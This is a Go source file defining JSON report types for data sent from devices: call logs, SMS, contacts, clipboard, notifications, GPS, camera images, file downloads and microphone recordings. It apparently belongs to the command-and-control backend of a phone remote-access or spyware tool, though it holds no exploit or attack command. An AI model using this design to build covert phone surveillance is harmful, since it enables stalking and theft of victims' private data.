package protocol

// Inbound report payload shapes, one per kind. Devices produce these over the
// channel; the ingestion pipeline decodes them. Fields the device may omit are
// left as zero values.

// CallReport carries the device call log.
type CallReport struct {
	CallsList []CallEntry `json:"callsList"`
}

type CallEntry struct {
	PhoneNo  string `json:"phoneNo"`
	Name     string `json:"name,omitempty"`
	Date     int64  `json:"date"`
	Duration int64  `json:"duration"`
	Type     int    `json:"type"`
}

// SMSReport carries either the device SMS inbox or a read error. A bare JSON
// boolean on the sms kind acknowledges an outbound sendSMS instead.
type SMSReport struct {
	SMSList   []SMSEntry `json:"smslist"`
	Error     string     `json:"error,omitempty"`
	Truncated bool       `json:"truncated,omitempty"`
}

type SMSEntry struct {
	Address string `json:"address"`
	Body    string `json:"body"`
	Date    int64  `json:"date,omitempty"`
	Type    int    `json:"type,omitempty"`
}

// ContactsReport carries the device contact book.
type ContactsReport struct {
	ContactsList []ContactEntry `json:"contactsList"`
}

type ContactEntry struct {
	PhoneNo string `json:"phoneNo"`
	Name    string `json:"name"`
}

// WifiReport carries the networks visible in one scan, or a scan error.
type WifiReport struct {
	Networks          []WifiNetwork `json:"networks"`
	Error             string        `json:"error,omitempty"`
	ScanRequested     bool          `json:"scanRequested,omitempty"`
	Timestamp         int64         `json:"timestamp,omitempty"`
	LocationEnabled   *bool         `json:"locationEnabled,omitempty"`
	HasFineLocation   *bool         `json:"hasFineLocation,omitempty"`
	HasCoarseLocation *bool         `json:"hasCoarseLocation,omitempty"`
}

type WifiNetwork struct {
	SSID      string `json:"SSID"`
	BSSID     string `json:"BSSID"`
	Level     int    `json:"level,omitempty"`
	Frequency int    `json:"frequency,omitempty"`
}

// NotificationReport is a single posted notification.
type NotificationReport struct {
	AppName  string `json:"appName"`
	Key      string `json:"key"`
	Content  string `json:"content"`
	PostTime int64  `json:"postTime"`
}

// ClipboardReport is one clipboard change.
type ClipboardReport struct {
	Text string `json:"text"`
}

// LocationReport is one GPS fix.
type LocationReport struct {
	Enabled   bool    `json:"enabled"`
	Latitude  float64 `json:"latitude"`
	Longitude float64 `json:"longitude"`
	Altitude  float64 `json:"altitude,omitempty"`
	Accuracy  float64 `json:"accuracy,omitempty"`
	Speed     float64 `json:"speed,omitempty"`
}

// PermissionsReport lists the runtime permissions currently granted.
type PermissionsReport struct {
	Permissions []string `json:"permissions"`
}

// AppsReport carries the installed-application inventory, or an error.
type AppsReport struct {
	Apps              []AppEntry `json:"apps"`
	Error             string     `json:"error,omitempty"`
	IncludeSystem     bool       `json:"includeSystem,omitempty"`
	TotalPackages     int        `json:"totalPackages,omitempty"`
	ReturnedPackages  int        `json:"returnedPackages,omitempty"`
	Filtered          bool       `json:"filtered,omitempty"`
}

type AppEntry struct {
	AppName     string `json:"appName"`
	PackageName string `json:"packageName"`
	VersionName string `json:"versionName,omitempty"`
}

// CameraReport is either a camera inventory, a captured image, or an error.
type CameraReport struct {
	CamList   bool         `json:"camList,omitempty"`
	List      []CameraInfo `json:"list,omitempty"`
	Image     bool         `json:"image,omitempty"`
	Buffer    string       `json:"buffer,omitempty"`
	CameraID  *int         `json:"cameraId,omitempty"`
	Timestamp int64        `json:"timestamp,omitempty"`
	Error     string       `json:"error,omitempty"`
}

type CameraInfo struct {
	ID   int    `json:"id"`
	Name string `json:"name"`
}

// FilesReport multiplexes the file-explorer responses: directory listings,
// whole-file downloads, chunked transfer signals, and errors. Type selects
// which fields are meaningful.
type FilesReport struct {
	Type string `json:"type"`

	// type == "list"
	List []FileEntry `json:"list,omitempty"`
	Path string      `json:"path,omitempty"`

	// type == "download" (single shot) and chunked transfer signals
	Name        string `json:"name,omitempty"`
	Buffer      string `json:"buffer,omitempty"`
	TransferID  string `json:"transferId,omitempty"`
	TotalChunks int    `json:"totalChunks,omitempty"`
	TotalSize   int64  `json:"totalSize,omitempty"`
	ChunkIndex  int    `json:"chunkIndex,omitempty"`
	ChunkData   string `json:"chunkData,omitempty"`

	// type == "error"
	Error string `json:"error,omitempty"`
}

const (
	FilesTypeList          = "list"
	FilesTypeDownload      = "download"
	FilesTypeDownloadStart = "download_start"
	FilesTypeDownloadChunk = "download_chunk"
	FilesTypeDownloadEnd   = "download_end"
	FilesTypeError         = "error"
)

type FileEntry struct {
	Name  string `json:"name"`
	IsDir bool   `json:"isDir"`
	Size  int64  `json:"size,omitempty"`
}

// MicReport carries one finished voice recording.
type MicReport struct {
	File   bool   `json:"file"`
	Name   string `json:"name"`
	Buffer string `json:"buffer"`
}
